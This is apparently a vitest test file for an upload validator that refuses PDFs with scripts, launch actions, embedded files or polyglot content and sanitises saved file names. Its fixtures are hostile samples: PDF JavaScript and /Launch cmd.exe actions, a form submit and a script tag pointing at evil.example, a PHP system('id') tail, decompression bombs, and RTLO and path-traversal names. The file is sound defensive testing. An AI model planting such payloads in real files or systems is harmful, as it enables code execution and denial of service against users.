import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { limits } from '~/schemas/limits';
import { validateUpload } from '~/services/files/validate-upload.server';
import { validateReceipt } from '~/services/payouts/validate-receipt.server';
import { safeFileName } from '~/utils/file-name.server';
import { photo, png } from '../integration/support/photo-fixtures';
import { countTries, manyRuns } from './inputs';
import { naughtyStrings } from './naughty-strings';
import { aes256 } from './support/aes-256';
import {
  listObject,
  listText,
  makeEncryptedPdf,
  makePackedPdf,
  makePdf,
  streamObject,
  updatedPdf,
} from './support/pdf';

const validate = async (content: Buffer, name = 'slip.pdf') => {
  const result = await validateUpload(photo(content, name, 'text/html'), limits.proof);
  return result.success ? 'taken' : result.error;
};

const active =
  '“slip.pdf” contains a script, an active form, media or another file. Print it to PDF again and upload that, or a picture of it.';
const needsPassword =
  '“slip.pdf” needs a password. Save a copy without a password and upload that, or a picture of it.';
const twoKinds =
  '“slip.pdf” is a PDF and another kind of file at once. Print it to PDF again and upload that.';
const unreadable = "We can't read this PDF. Save or print it to PDF again and upload that.";

/** A PDF that does this when it is opened. */
const opening = (action: string) => makePdf({ catalog: `/OpenAction << ${action} >>` });
const object = (text: string) => makePdf({ objects: [`8 0 obj\n${text}\nendobj\n`] });
const scriptAction = '<< /S /JavaScript /JS (app.alert(1)) >>';
const annotation = (entries: string) => makePdf({ page: `/Annots [<< /Type /Annot ${entries} >>]` });
const behind = (file: Buffer, more: string) => Buffer.concat([file, Buffer.from(more, 'latin1')]);
const inFront = (text: string) => makePdf({ version: `1.7\n${text}\n` });

const activePdfs: Record<string, Buffer> = {
  'a script on opening': opening('/S /JavaScript /JS (app.alert(1))'),
  'a script whose name is in hex': opening('/S /J#61vaScrip#74 /#4aS (x)'),
  'a script behind comments and line ends': opening('/S%\r/S /AA\n/S\0%<<\n/JavaScript'),
  'a script without its long name': object('<< /JS 4 0 R >>'),
  'a script of a name tree': object('<< /Names [(a) << /S /JavaScript /JS <61> >>] >>'),
  'a script of a page': makePdf({ page: `/AA << /O ${scriptAction} >>` }),
  'a script behind a name of its own': makePdf({
    catalog: '/OpenAction << /S 8 0 R >>',
    objects: ['8 0 obj /JavaScript endobj\n'],
  }),
  'a program': opening('/S /Launch /F (cmd.exe)'),
  'a form that is sent': opening('/S /SubmitForm /F (https://evil.example/)'),
  'a form that is filled from a file': opening('/S /ImportData /F (\\\\\\\\host\\\\share)'),
  'a jump to another file': opening('/S /GoToR /F (\\\\\\\\10.0.0.1\\\\x.pdf) /D [0 /Fit]'),
  'a jump to an attached file': opening('/S /GoToE /T << /R /C >>'),
  'a form of XFA': makePdf({ catalog: '/AcroForm << /Fields [] /XFA 8 0 R >>' }),
  'a film': annotation('/Subtype /RichMedia /RichMediaContent 8 0 R'),
  'a film of before': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound': annotation('/Subtype /Sound /Sound 8 0 R'),
  'a screen': annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'),
  'a model in 3D': annotation('/Subtype /3D /3DD 8 0 R'),
  'an attached file': makePdf({
    objects: [streamObject('8 0 obj', '/Type /EmbeddedFile', Buffer.from('MZ'))],
  }),
  'an attached file without a type': makePdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) /EF << /F 8 0 R >> >>] >> >>',
    objects: [streamObject('8 0 obj', '', Buffer.from('MZ'))],
  }),
  'an attached file on the page': annotation('/Subtype /FileAttachment /FS 8 0 R'),
  'a link that is a script': annotation('/A << /S /URI /URI (java\\163cript:alert(1)) >>'),
  'a link that is a script, in hex': annotation(
    `/A << /S /URI /URI <${Buffer.from('javascript:x').toString('hex')}> >>`,
  ),
  'a link to a file of the computer': annotation('/A << /S /URI /URI (file:///c:/x.exe) >>'),
  'a script in a packed list': makePackedPdf({ more: [[7, scriptAction]] }),
  'a script in the catalog of a packed list': makePackedPdf({
    catalog: `/OpenAction ${scriptAction}`,
  }),
  'a script in a list without a type': makePdf({
    objects: [listObject([[7, scriptAction]], { type: '' })],
  }),
  'a script in a list that is not packed': makePdf({
    objects: [
      streamObject(
        '8 0 obj',
        `/Type /Obj#53tm /N 1 /First ${listText([[7, scriptAction]]).first}`,
        Buffer.from(listText([[7, scriptAction]]).text),
      ),
    ],
  }),
  'a script inside the content of a page': makePdf({
    drawing: `BT ET\n7 0 obj ${scriptAction} endobj`,
  }),
  'a script behind a number with a comment': makePdf({
    objects: [`7 0 % a comment\nobj ${scriptAction} endobj\n`],
  }),
  'a script in an update': updatedPdf(
    makePdf(),
    `3 0 obj << /Type /Page /AA << /O ${scriptAction} >> >> endobj\n`,
  ),
  'a script in the trailer': makePdf({ trailer: `/X ${scriptAction}` }),
  'a script behind the end': behind(makePdf(), `<< /OpenAction ${scriptAction} >>`),
  'a script that is encrypted with AES-256': aes256.withScript(),
  'a script that is encrypted with RC4': makeEncryptedPdf([[7, scriptAction]]),
  'a script that is encrypted with AES': makeEncryptedPdf([[7, scriptAction]], { aes: true }),
};

const secondKinds: Record<string, Buffer> = {
  'a page behind it': behind(makePdf(), '<html><script>alert(1)</script>'),
  'a page in its head': inFront('%<!DOCTYPE html><body>'),
  'a page in a string': object('<< /Title (<script src=//evil.example>) >>'),
  'a page of a picture': object('(<img src=x onerror=alert(1)>)'),
  'a page of a drawing': object('(<svg/onload=alert(1)>)'),
  'a PHP page': behind(makePdf(), '<?php system("id"); ?>'),
  'an archive': behind(makePdf(), `PK\x05\x06${'\0'.repeat(18)}`),
  'an archive with a false end': behind(makePdf(), `PK\x05\x06${'\0'.repeat(18)}PK\x05\x06`),
};

const packedObject = (content: Buffer, entries = '/Filter /FlateDecode') =>
  streamObject('8 0 obj', `/Type /ObjStm /N 1 /First 4 ${entries}`, content);
const packed = (content: Buffer, entries?: string) => makePdf({ objects: [packedObject(content, entries)] });

const brokenPdfs: Record<string, Buffer> = {
  'nothing but a head': Buffer.from('%PDF-1.7\n'),
  'cut off': makePdf().subarray(0, 300),
  'a dictionary without an end': object('<< /A << /B 1 >>'),
  'a list in a dictionary that never ends': object('<< /A [ >> /S /X >>'),
  'a packed list that cannot be unpacked': packed(Buffer.from([7, 7])),
  'a packed list that is a bomb': packed(deflateSync(Buffer.alloc(100 * 1024 * 1024))),
  'a list that is packed in another way': packed(Buffer.from('>'), '/Filter /ASCIIHexDecode'),
  'a list whose entries are there twice': packed(deflateSync(Buffer.from('7 0 1')), '/N 2'),
  'a list of a million objects': makePdf({
    objects: [streamObject('8 0 obj', '/Type /ObjStm /N 1000000 /First 4', Buffer.from('7 0 1'))],
  }),
};

const honestPdfs: Record<string, Buffer> = {
  'of one page': makePdf(),
  'of PDF 1.3': makePdf({ version: '1.3' }),
  'of PDF 2.0': makePdf({ version: '2.0' }),
  'with packed lists, as of LibreOffice, Chromium and iText': makePackedPdf(),
  'that was saved again': updatedPdf(makePdf(), '3 0 obj << /Type /Page >> endobj\n'),
  'with a link that ends in /JavaScript': annotation(
    '/Subtype /Link /A << /S /URI /URI (https://developer.mozilla.org/docs/Web/JavaScript) >>',
  ),
  'with a link that ends in /JavaScript, in a packed list': makePackedPdf({
    more: [[7, '<< /S /URI /URI (https://example.org/JavaScript) >>']],
  }),
  'with a page that is about /JavaScript': makePdf({
    drawing: 'BT (How to use /JavaScript, /JS \\(x\\), /Launch and /EmbeddedFile) Tj ET',
  }),
  'with a title about scripts': object('<< /Title (/S /JavaScript /JS) /Author (/Launch) >>'),
  'that opens at its first page': makePdf({ catalog: '/OpenAction [3 0 R /Fit]' }),
  'with a jump and a menu': opening('/S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >>'),
  'with an empty list of attachments': makePdf({
    catalog: '/Names << /EmbeddedFiles << /Names [] >> /JavaScript null >> /AcroForm << /XFA null >>',
  }),
  'with fields to fill in': makePdf({
    catalog: '/AcroForm << /Fields [8 0 R] /DA (/Helv 0 Tf) >>',
    objects: ['8 0 obj << /FT /Tx /T (Name) /V (/JavaScript) >> endobj\n'],
  }),
  'with a picture whose bytes look like a name': makePdf({
    objects: [streamObject('8 0 obj', '/Subtype /Image', Buffer.from('/JS (x) /S /JavaScript obj'))],
  }),
  'with its text as a font and structure': object(
    '<< /Type /Font /BaseFont /JSans /ToUnicode 4 0 R /S /Span /Widths [1 2 3] >>',
  ),
  'encrypted with AES-256, that opens without a password': aes256.harmless(),
  'encrypted, that opens without a password': makeEncryptedPdf([[7, '<< /Type /Font >>']]),
  'encrypted with AES, that opens without a password': makeEncryptedPdf(
    [[7, '<< /S /URI /URI (https://example.org/JavaScript) >>']],
    { aes: true },
  ),
};

/** Validates each and counts those with another answer. */
async function expectAll(kind: string, files: Record<string, Buffer>, answer: string) {
  const wrong: Record<string, string> = {};
  for (const [what, content] of Object.entries(files)) {
    const result = await validate(content);
    if (result !== answer) wrong[what] = result;
  }
  countTries(kind, Object.keys(files).length, Object.keys(wrong).length);
  expect(wrong).toEqual({});
}

describe('a PDF', () => {
  test('that could do something when it is opened is refused', () =>
    expectAll('PDFs that do something', activePdfs, active));
  test('that is a page or an archive as well is refused', () =>
    expectAll('PDFs of two kinds', secondKinds, twoKinds));
  test('that cannot be understood is refused in plain words', () =>
    expectAll('broken PDFs', brokenPdfs, unreadable));
  test('that is honest is taken', () => expectAll('honest PDFs', honestPdfs, 'taken'));

  test('that needs a password is refused with that reason', () =>
    expectAll(
      'PDFs with a password',
      {
        RC4: makeEncryptedPdf([[7, scriptAction]], { password: 'secret' }),
        AES: makeEncryptedPdf([[7, '<< >>']], { password: 'secret', aes: true }),
        'AES-256': aes256.withPassword(),
        certificates: makePdf({
          objects: ['6 0 obj << /Filter /Adobe.PubSec /V 4 /R 4 >> endobj\n'],
          trailer: '/Encrypt 6 0 R',
        }),
      },
      needsPassword,
    ));

  test('cut anywhere, or with bytes that were changed, gets an answer', async () => {
    const files = [...Object.values(activePdfs), ...Object.values(honestPdfs)];
    const { options } = manyRuns(300);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...files),
        fc.array(fc.tuple(fc.nat(1_500), fc.nat(255)), { maxLength: 6 }),
        fc.nat(1_500),
        async (file, changes, cut) => {
          const content = Buffer.from(file.subarray(0, Math.max(5, file.length - (cut % 400))));
          for (const [at, byte] of changes) content[5 + (at % (content.length - 5 || 1))] = byte;
          const result = await validate(content);
          const known = ['taken', active, needsPassword, twoKinds, unreadable].includes(result);
          countTries('damaged PDFs', 1, known ? 0 : 1);
          expect(known).toBe(true);
        },
      ),
      options,
    );
  });
});

/** `unit` again and again, 10 MB of it. */
const tenMegabytes = (unit: string, head = '') => {
  const maxBytes = limits.proof.bytes - 1;
  return Buffer.from(`%PDF-1.7\n${head}`.padEnd(maxBytes, unit), 'latin1');
};

test('10 MB that are made to take long are answered within seconds, and others have their turn', {
  timeout: 120_000,
}, async () => {
  const largeList = packedObject(deflateSync(Buffer.from(`7 0 ${'[0]'.repeat(4_000_000)}`)));
  const bombs: Record<string, Buffer> = {
    'objects in objects': tenMegabytes('1 0 obj<<'),
    'lists in lists': tenMegabytes('[', '1 0 obj'),
    'strings in strings': tenMegabytes('1 0 obj('),
    'one long number': tenMegabytes('1', '1 0 obj '),
    'many dictionaries': tenMegabytes('<</A 0>>', '1 0 obj['),
    'empty objects': tenMegabytes('1 0 obj<<>>'),
    'objects without numbers': tenMegabytes('7 0 %\nobj '),
    'many trailers': tenMegabytes(
      'trailer<</Encrypt 1 0 R>>'.padEnd(90),
      '1 0 obj<</Filter/Standard/V 5/R 6/U()>>'.repeat(1_000),
    ),
    'many lists': tenMegabytes('1 0 obj<</First 1/N 1>>stream\n'.padEnd(90)),
    'half tags': tenMegabytes('<a '),
    'packed lists in a row': makePdf({ objects: Array.from({ length: 10 }, () => largeList) }),
  };
  let faults = 0;
  for (const [what, content] of Object.entries(bombs)) {
    const started = performance.now();
    let [last, maxPauseMs] = [started, 0];
    const clock = setInterval(() => {
      maxPauseMs = Math.max(maxPauseMs, performance.now() - last);
      last = performance.now();
    }, 1);
    const result = await validate(content);
    clearInterval(clock);
    const isFine = result === unreadable && performance.now() - started < 15_000 && maxPauseMs < 3_000;
    faults += isFine ? 0 : 1;
    expect.soft(result, what).toBe(unreadable);
    expect.soft(isFine, `${what}: ${performance.now() - started} ms, ${maxPauseMs} ms`).toBe(true);
  }
  countTries('PDFs that are made to take long', Object.keys(bombs).length, faults);
});

test('a picture with a false end of an archive behind the true one is refused', async () => {
  const record = `PK\x05\x06${'\0'.repeat(18)}`;
  const result = await validate(behind(await png(), `${record}PK\x05\x06`), 'slip.png');
  countTries('pictures of two kinds', 1, result === 'taken' ? 1 : 0);
  expect(result).toContain('is a picture and another kind of file at once');
});

test('a receipt is validated in the same way, and a file of another kind has its own message', async () => {
  const receipt = async (content: Buffer) => {
    const result = await validateReceipt(photo(content, 'slip.pdf', 'text/html'));
    return result.success ? 'taken' : result.error;
  };
  expect(await receipt(makePdf())).toBe('taken');
  expect(await receipt(await png())).toBe(limits.receipt.wrongType);
  // A receipt is a PDF, so a picture is no way out.
  expect(await receipt(opening('/S /Launch'))).toBe(active.replace(', or a picture of it', ''));
});

describe('the name that a proof is saved under', () => {
  const harmless =
    /^(?!(?:con|prn|aux|nul|com\d|lpt\d)(?:$|[ .]))[^\p{Other}/\\:*?"<>|. ][^\p{Other}/\\:*?"<>|]*\.pdf$/iu;

  test.each([
    ['payment.cmd', 'payment_cmd.pdf'],
    ['x.hta', 'x_hta.pdf'],
    ['slip.pdf.exe', 'slip.pdf_exe.pdf'],
    ['invoice\u202Efdp.exe', 'invoicefdp_exe.pdf'],
    ['pay\u200Bment\u2066\u0000\r\n.pdf', 'payment.pdf'],
    ['..\\..\\CON.pdf', '_.__CON.pdf'],
    ['con.pdf', '_con.pdf'],
    ['NUL', '_NUL.pdf'],
    ['com1 .txt', '_com1 _txt.pdf'],
    ['slip.PDF', 'slip.pdf'],
    ['MoMo 12.05.2026', 'MoMo 12.05.2026.pdf'],
    ['Ɛdwene 1.pdf', 'Ɛdwene 1.pdf'],
    ['...', 'file.pdf'],
    ['', 'file.pdf'],
  ])('%j is %j', (name, expected) => {
    countTries('names of proofs', 1, safeFileName(name, 'application/pdf') === expected ? 0 : 1);
    expect(safeFileName(name, 'application/pdf')).toBe(expected);
  });

  test('ends with what it is, whatever it is called', async () => {
    const check = (name: string) => {
      const made = safeFileName(name, 'application/pdf');
      const isFine = harmless.test(made) && Buffer.byteLength(made) <= 160;
      countTries('names of proofs', 1, isFine ? 0 : 1);
      expect(isFine, JSON.stringify([name, made])).toBe(true);
    };
    naughtyStrings.forEach(check);
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 400 }), check), manyRuns(500).options);
  });
});
